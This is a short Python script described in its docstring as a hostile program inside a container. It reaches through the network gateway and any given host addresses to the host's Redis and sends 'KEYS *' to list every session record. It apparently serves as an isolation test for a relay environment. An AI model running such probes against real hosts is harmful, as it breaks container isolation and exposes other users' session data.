"""A hostile program in a container target: it goes for the Redis of the host the relay runs on, through
its network's gateway and each host address given, and asks it for every key (the sessions' records)."""

import sys

from reach import gateway, reach

port = int(sys.argv[1])
ask = b"KEYS *\r\n"
for host in [gateway(), *sys.argv[2:]]:
    print(host, reach(host, port, ask))
print("asked")  # asked
